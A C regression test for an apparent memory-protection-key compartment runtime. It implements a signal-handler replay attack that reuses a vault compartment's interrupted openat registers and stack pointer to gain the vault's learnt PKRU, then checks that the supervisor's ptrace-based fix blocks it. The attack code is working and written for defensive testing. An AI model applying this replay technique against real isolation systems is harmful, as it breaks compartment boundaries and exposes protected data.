// Review 20, attacker model B (control of the default domain's program
// counter): a default-domain signal handler replays the vault's interrupted
// open with the vault's stack pointer and takes the PKRU the supervisor
// learnt for the vault's call.
//
// The supervisor learns the PKRU of an open whose path lies in compartment
// memory from a stop inside that very call, and keeps it for a call of that
// thread with the same number, six arguments, instruction pointer and stack
// pointer (runtime/supervisor-open.c, review 17): the kernel's restart of
// the interrupted call. But a signal pending when the supervisor lets the
// thread go runs its handler before the restart. The handler's context
// holds every register of the interrupted call (rip rewound to the system
// call instruction, rax the call's number, rsp the vault's stack pointer),
// so default-domain code can load them, set rsp to the vault's, and jump to
// that same instruction: the supervisor finds the learnt PKRU for that
// (tid, number, arguments, ip, sp), reads the vault's bytes as the path
// with the vault's rights and opens the file for the default domain. The
// instruction after the call (libc's syscall(): ret) then faults on the
// vault's stack, and the attacker's SIGSEGV handler takes the result from
// rax and leaves by siglongjmp.
//
// What it gains here is the vault's own open, made once more for the
// default domain; a vault whose path buffer holds new bytes by then (another
// vault thread) would give those too. Seen in the guest: ATTACK SUCCEEDED
// after a few dozen replays; built with -DSP_SHIFT=16 (the same replay,
// rsp 16 bytes off) every one of thousands gets EFAULT, so the stack
// pointer is all that let the learnt PKRU through.
//
// Fixed (runtime/supervisor-open.c learn_pkru): the learning thread
// follows the caller under ptrace (PTRACE_SYSCALL) from the stop to its
// next system-call entry, which must be the restart with no signal
// delivered first, and on to that call's exit: the PKRU is kept only while
// the thread is inside the restart, so no call made after a handler ran,
// or after EINTR, finds it. Before, ATTACK SUCCEEDED within tens of tries.
// REQUIRES: pku
// RUN: %bulkhead_clang -fpkey-compartments -O2 -pthread %s -o %t
// RUN: %run %t | FileCheck %s
// CHECK: direct open of the vault's path from the default domain: Bad address
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK: attacks-rev20-learnt-pkru-replay: done
#define _GNU_SOURCE
#include <bulkhead.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <ucontext.h>
#include <unistd.h>

#define NAME "vault-secret-0123456789abcdef"
#ifndef SP_SHIFT
#define SP_SHIFT 0 /* a control run shifts it: then the supervisor asks */
#endif

BULKHEAD_DATA(vault) static char vault_path[160];

static volatile int stop;

BULKHEAD_ENTRY(vault) void vault_set(const char *dir) {
  snprintf(vault_path, sizeof vault_path, "%s/%s", dir, NAME);
}

/* The vault's own, legitimate opens of a path in its memory. */
BULKHEAD_ENTRY(vault) long vault_work(void) {
  long opened = 0;
  while (!stop) {
    int fd = (int)syscall(SYS_openat, AT_FDCWD, vault_path, O_RDONLY, 0L, 0L,
                          0L);
    if (fd >= 0)
      close(fd), opened++;
  }
  return opened;
}

#include "Inputs/learnt-pkru-storm.h"

/* The replayed call's registers, loaded by replay(). */
static struct {
  uint64_t rax, rdi, rsi, rdx, r10, r8, r9, rsp, rip;
} R;
static sigjmp_buf back;
static volatile int replaying;
static volatile long replay_result;
static volatile long replays, replay_efaults;

static __attribute__((noreturn, noinline)) void replay(void) {
  register void *p __asm__("r11") = &R;
  __asm__ volatile("mov 0(%0), %%rax\n\t"
                   "mov 8(%0), %%rdi\n\t"
                   "mov 16(%0), %%rsi\n\t"
                   "mov 24(%0), %%rdx\n\t"
                   "mov 32(%0), %%r10\n\t"
                   "mov 40(%0), %%r8\n\t"
                   "mov 48(%0), %%r9\n\t"
                   "mov 56(%0), %%rsp\n\t"
                   "jmp *64(%0)\n\t"
                   :
                   : "r"(p)
                   : "memory");
  __builtin_unreachable();
}

/* The ret after the replayed call reads the vault's stack: a key fault. */
static void on_segv(int sig, siginfo_t *si, void *ucv) {
  (void)si;
  if (!replaying) {
    signal(sig, SIG_DFL);
    return;
  }
  replaying = 0;
  replay_result = (long)((ucontext_t *)ucv)->uc_mcontext.gregs[REG_RAX];
  siglongjmp(back, 1);
}

static void on_signal(int sig, siginfo_t *si, void *ucv) {
  (void)sig, (void)si;
  greg_t *g = ((ucontext_t *)ucv)->uc_mcontext.gregs;
  const unsigned char *ip = (const unsigned char *)g[REG_RIP];
  /* Interrupted at the restart of the vault's openat: rip is rewound to
   * the system call instruction (in libc's syscall()), rax its number. */
  if (g[REG_RAX] != SYS_openat || g[REG_RSI] != (greg_t)(uintptr_t)vault_path ||
      (uintptr_t)ip < (uintptr_t)syscall ||
      (uintptr_t)ip > (uintptr_t)syscall + 64 || ip[0] != 0x0f || ip[1] != 0x05)
    return;
  int e = errno;
  R.rax = (uint64_t)g[REG_RAX], R.rdi = (uint64_t)g[REG_RDI],
  R.rsi = (uint64_t)g[REG_RSI], R.rdx = (uint64_t)g[REG_RDX],
  R.r10 = (uint64_t)g[REG_R10], R.r8 = (uint64_t)g[REG_R8],
  R.r9 = (uint64_t)g[REG_R9], R.rsp = (uint64_t)g[REG_RSP] - SP_SHIFT,
  R.rip = (uint64_t)(uintptr_t)ip;
  errno = 0;
  if (!sigsetjmp(back, 1)) {
    replaying = 1;
    replay();
  }
  replays++;
  /* libc's syscall() set errno and rax -1 on an error, before its ret. */
  long r = replay_result;
  if (r >= 0 && leaked_fd < 0)
    leak_pkru = rdpkru(), leaked_fd = (int)r;
  else if (r >= 0)
    close((int)r);
  else if (errno == EFAULT)
    replay_efaults++;
  errno = e;
}

int main(void) {
  setvbuf(stdout, NULL, _IONBF, 0);
  static char dir[] = "/tmp/bh-rev20-XXXXXX";
  char file[200];
  if (make_vault_file(dir, file, sizeof file))
    return 1;

  int fd = open(vault_path, O_RDONLY);
  printf("direct open of the vault's path from the default domain: %s\n",
         fd < 0 ? strerror(errno) : "opened");
  if (fd >= 0)
    printf("ATTACK SUCCEEDED: the default domain opened the vault's path "
           "directly\n");

  struct sigaction sa;
  memset(&sa, 0, sizeof sa);
  sa.sa_sigaction = on_segv;
  sa.sa_flags = SA_SIGINFO | SA_ONSTACK | SA_NODEFER;
  sigaction(SIGSEGV, &sa, NULL);
  sa.sa_sigaction = on_signal;
  sa.sa_flags = SA_SIGINFO | SA_RESTART;
  sigaction(SIGUSR1, &sa, NULL);

  long signals = signal_worker(20, 6000, 90000);

  if (leaked_fd >= 0) {
    char name[256];
    fd_name(leaked_fd, name, sizeof name);
    printf("ATTACK SUCCEEDED: the default domain's replay of the vault's "
           "open, with the vault's stack pointer, opened the path in the "
           "vault's data (%ld signals, %ld replays, %ld EFAULT before): %s\n",
           signals, (long)replays, (long)replay_efaults, name);
    printf("the replay ran with the default domain's PKRU: %s\n",
           leak_pkru == rdpkru() ? "yes" : "no");
  } else {
    printf("held: %ld signals, %ld replays, %ld EFAULT\n", signals,
           (long)replays, (long)replay_efaults);
  }
  printf("the vault opened its file: %s\n", vault_opened > 0 ? "yes" : "no");
  unlink(file);
  rmdir(dir);
  printf("attacks-rev20-learnt-pkru-replay: done\n");
  return 0;
}
